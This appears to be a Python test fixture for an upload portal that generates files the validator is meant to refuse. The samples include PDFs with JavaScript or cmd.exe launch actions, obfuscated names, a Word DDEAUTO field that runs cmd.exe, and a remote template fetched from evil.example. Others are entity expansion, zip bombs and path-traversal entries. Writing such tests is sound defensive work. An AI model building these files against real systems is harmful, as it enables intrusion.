"""Files that must be refused, each with the reason that a person is to be told."""

import io
import zipfile
from collections.abc import Iterator
from typing import NamedTuple

import pikepdf
from pikepdf import Array, Dictionary, Name, String

from portal.storage import Reason
from tests.storage.files import RELATIONS, W, docx, package, pdf, pdf_with_root, picture, png_of, relation, xlsx


def script() -> Dictionary:
    return Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))


class Hostile(NamedTuple):
    what: str
    file_name: str
    content: bytes
    reason: Reason


def hostile_files() -> Iterator[Hostile]:
    yield from _wrong_kinds()
    yield from _pdfs()
    yield from _pictures()
    yield from _packages()
    yield from _archives()


def _wrong_kinds() -> Iterator[Hostile]:
    html = b"<!doctype html><script>alert(1)</script>"
    yield Hostile("a page named as a PDF", "don.pdf", html, Reason.TYPE)
    yield Hostile("a page named as a picture", "anh.png", html, Reason.TYPE)
    yield Hostile("a drawing with a script", "anh.svg", b'<svg onload="alert(1)"/>', Reason.TYPE)
    yield Hostile("a program", "cai-dat.exe", b"MZ" + b"\0" * 90, Reason.TYPE)
    yield Hostile("a program named as a document", "don.docx", b"MZ" + b"\0" * 90, Reason.TYPE)
    yield Hostile("a program behind two extensions", "don.pdf.exe", pdf(), Reason.TYPE)
    yield Hostile("a PDF without an extension", "don", pdf(), Reason.TYPE)
    yield Hostile("a plain archive", "ho-so.zip", package({}), Reason.TYPE)
    yield Hostile("a picture named as a PDF", "don.pdf", picture(), Reason.MISMATCH)
    yield Hostile("a PDF named as a picture", "anh.jpg", pdf(), Reason.MISMATCH)
    yield Hostile("a PNG named as a JPEG", "anh.jpg", picture("PNG"), Reason.MISMATCH)
    yield Hostile("a GIF", "anh.gif", picture("GIF"), Reason.TYPE)
    yield Hostile("a HEIC photo", "IMG_1.HEIC", b"\0\0\0\x18ftypheic\0\0\0\0mif1heic", Reason.PHOTO_FORMAT)
    yield Hostile("a HEIC photo named as a JPEG", "IMG_1.jpg", b"\0\0\0\x18ftypmif1\0\0\0\0heic", Reason.PHOTO_FORMAT)
    yield Hostile("an old Word file", "don.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 90, Reason.OLD_OFFICE)
    yield Hostile("a Word file with a password", "don.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", Reason.OLD_OFFICE)
    yield Hostile("one byte", "don.pdf", b"%", Reason.TYPE)


def _pdfs() -> Iterator[Hostile]:
    good = pdf()
    launch = Dictionary(S=Name.Launch, F=String("cmd.exe"))
    yield Hostile("a script at opening", "a.pdf", pdf_with_root(OpenAction=script()), Reason.ACTIVE)
    yield Hostile("a program at opening", "a.pdf", pdf_with_root(OpenAction=launch), Reason.ACTIVE)
    yield Hostile("a script in the names", "a.pdf", pdf_with_root(Names=Dictionary(JavaScript=script())), Reason.ACTIVE)
    yield Hostile("a script when the page shows", "a.pdf", pdf(_script_on_page), Reason.ACTIVE)
    yield Hostile("a script deep in an array", "a.pdf", pdf_with_root(X=Array([Array([script()])])), Reason.ACTIVE)
    yield Hostile("a form that sends itself", "a.pdf", pdf_with_root(A=Dictionary(S=Name.SubmitForm)), Reason.ACTIVE)
    yield Hostile("a script in a packed object", "a.pdf", _packed_script(), Reason.ACTIVE)
    yield Hostile("a script behind an escaped name", "a.pdf", _escaped_script(), Reason.ACTIVE)
    yield Hostile("a file inside", "a.pdf", pdf(_attach), Reason.ATTACHMENT)
    yield Hostile("a portfolio", "a.pdf", pdf_with_root(Collection=Dictionary()), Reason.ATTACHMENT)
    yield Hostile("an XFA form", "a.pdf", pdf_with_root(AcroForm=Dictionary(XFA=String("x"))), Reason.DYNAMIC_FORM)
    secret = pikepdf.Encryption(owner="a", user="b")
    yield Hostile("a PDF with a password", "a.pdf", pdf(encryption=secret), Reason.ENCRYPTED)
    only_owner = pikepdf.Encryption(owner="a", user="")
    yield Hostile("a PDF protected by its owner", "a.pdf", pdf(encryption=only_owner), Reason.ENCRYPTED)
    yield Hostile("half a PDF", "a.pdf", good[: len(good) // 2], Reason.CUT_OFF)
    yield Hostile("a PDF that is an archive too", "a.pdf", good + package({}), Reason.TWO_KINDS)
    yield Hostile("a PDF with a page behind it", "a.pdf", good + b"<script>", Reason.TWO_KINDS)
    yield Hostile("only the two ends of a PDF", "a.pdf", b"%PDF-1.7\n%%EOF\n", Reason.DAMAGED)
    yield Hostile("a PDF with a wrong table", "a.pdf", good.replace(b"startxref\n", b"startxref\n9"), Reason.DAMAGED)
    yield Hostile("a PDF without pages", "a.pdf", pdf(lambda made: made.pages.__delitem__(0)), Reason.DAMAGED)


def _script_on_page(made: pikepdf.Pdf) -> None:
    made.pages[0]["/AA"] = Dictionary(O=script())


def _attach(made: pikepdf.Pdf) -> None:
    made.attachments["virus.exe"] = b"MZ"


def _packed_script() -> bytes:
    def change(made: pikepdf.Pdf) -> None:
        made.Root["/OpenAction"] = made.make_indirect(script())

    return pdf(change, object_stream_mode=pikepdf.ObjectStreamMode.generate)


def _escaped_script() -> bytes:
    """The names are written in another way, the file keeps its length and its table stays right."""
    plain = pdf_with_root(OpenAction=script(), Filler=String("four more"))
    return plain.replace(b"/JavaScript", b"/JavaScr#69pt").replace(b"/JS", b"/J#53").replace(b"four more", b"four!")


def _pictures() -> Iterator[Hostile]:
    jpeg, png = picture(size=(600, 400)), picture("PNG", size=(600, 400))
    yield Hostile("half a photo", "a.jpg", jpeg[: len(jpeg) // 2], Reason.CUT_OFF)
    yield Hostile("half a PNG", "a.png", png[: len(png) // 2], Reason.CUT_OFF)
    yield Hostile("the first bytes of a JPEG and a program", "a.jpg", b"\xff\xd8\xff\xe0<?php", Reason.DAMAGED)
    yield Hostile("the first bytes of a PNG and noise", "a.png", b"\x89PNG\r\n\x1a\n" + b"x" * 99, Reason.DAMAGED)
    yield Hostile("a PNG of 10,000 million pixels", "a.png", png_of(100_000, 100_000), Reason.PIXELS)
    yield Hostile("a PNG just over the limit", "a.png", png_of(5_001, 5_000), Reason.PIXELS)
    yield Hostile("a WebP of nothing", "a.webp", b"RIFF\x10\0\0\0WEBPVP8 \0\0\0\0", Reason.DAMAGED)


def _packages() -> Iterator[Hostile]:
    macro = "application/vnd.ms-word.document.macroEnabled.main+xml"
    entity = f'<!DOCTYPE d [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]><w:document {W}>&b;</w:document>'
    field = f'<w:document {W}><w:instrText>DDEAUTO c:\\\\cmd.exe "/k calc"</w:instrText></w:document>'
    template, link = "word/_rels/settings.xml.rels", "word/_rels/document.xml.rels"
    remote = relation("attachedTemplate", "https://evil.example/x.dotm")
    yield Hostile("macros by name", "a.docm", package({}, kinds=macro), Reason.MACRO)
    yield Hostile("macros renamed", "a.docx", package({}, kinds=macro), Reason.MACRO)
    yield Hostile("macros hidden", "a.docx", docx({"word/vbaProject.bin": b"x"}), Reason.MACRO)
    yield Hostile("macros in a workbook", "a.xlsx", xlsx({"xl/vbaProject.bin": b"x"}), Reason.MACRO)
    yield Hostile("a control", "a.docx", docx({"word/activeX/activeX1.xml": "<a/>"}), Reason.MACRO)
    yield Hostile("a file inside", "a.docx", docx({"word/embeddings/oleObject1.bin": b"x"}), Reason.ATTACHMENT)
    yield Hostile("a template from elsewhere", "a.docx", docx({template: remote}), Reason.EXTERNAL)
    yield Hostile("a link to a file", "a.docx", docx({link: relation("hyperlink", "file://x/y")}), Reason.EXTERNAL)
    yield Hostile("a field that starts a program", "a.docx", docx({"word/footer1.xml": field}), Reason.EXTERNAL)
    yield Hostile("a workbook that asks a program", "a.xlsx", xlsx({"xl/e.xml": "<ddeLink/>"}), Reason.EXTERNAL)
    yield Hostile("entities", "a.docx", docx({"word/footer1.xml": entity}), Reason.DAMAGED)
    yield Hostile("entities in UTF-16", "a.docx", docx({"word/footer1.xml": entity.encode("utf-16")}), Reason.DAMAGED)
    yield Hostile("XML that does not close", "a.docx", docx({"word/footer1.xml": "<a>"}), Reason.DAMAGED)
    yield Hostile("a workbook named as a document", "a.docx", xlsx(), Reason.TYPE)
    yield Hostile("an archive named as a document", "a.docx", package({}, kinds=f"{RELATIONS}/none"), Reason.TYPE)


def _archives() -> Iterator[Hostile]:
    good = docx()
    yield Hostile("a bomb", "a.docx", docx({"word/media/a.xml": b" " * (20 << 20)}), Reason.UNPACKED_SIZE)
    many = docx({f"word/media/{n}": b"" for n in range(1_001)})
    yield Hostile("a thousand parts", "a.docx", many, Reason.UNPACKED_SIZE)
    yield Hostile("a part outside", "a.docx", docx({"../../etc/cron.d/x": "x"}), Reason.DAMAGED)
    yield Hostile("a part with a full path", "a.docx", docx({"/etc/passwd": "x"}), Reason.DAMAGED)
    yield Hostile("half a document", "a.docx", good[: len(good) // 2], Reason.CUT_OFF)
    yield Hostile("a wrong checksum", "a.docx", _flip_in_data(), Reason.DAMAGED)
    yield Hostile("a document behind another file", "a.docx", b"PK\x03\x04xx" + good, Reason.TWO_KINDS)
    yield Hostile("a document with a remark", "a.docx", _with_comment(good), Reason.TWO_KINDS)
    yield Hostile("a size that lies", "a.docx", _lying_size(), Reason.DAMAGED)


def _stored(content: bytes) -> bytes:
    out = io.BytesIO(docx())
    with zipfile.ZipFile(out, "a", zipfile.ZIP_STORED) as file:
        file.writestr("word/media/image1.bin", content)
    return out.getvalue()


def _flip_in_data() -> bytes:
    return _stored(b"MARK" * 10).replace(b"MARKMARK", b"MARKMORK", 1)


def _lying_size() -> bytes:
    """The directory says fewer bytes than there are."""
    out = bytearray(_stored(b"A" * 400))
    entry = out.rindex(b"PK\x01\x02")
    out[entry + 24 : entry + 28] = (40).to_bytes(4, "little")
    return bytes(out)


def _with_comment(good: bytes) -> bytes:
    out = io.BytesIO(good)
    with zipfile.ZipFile(out, "a") as file:
        file.comment = b"<script>"
    return out.getvalue()
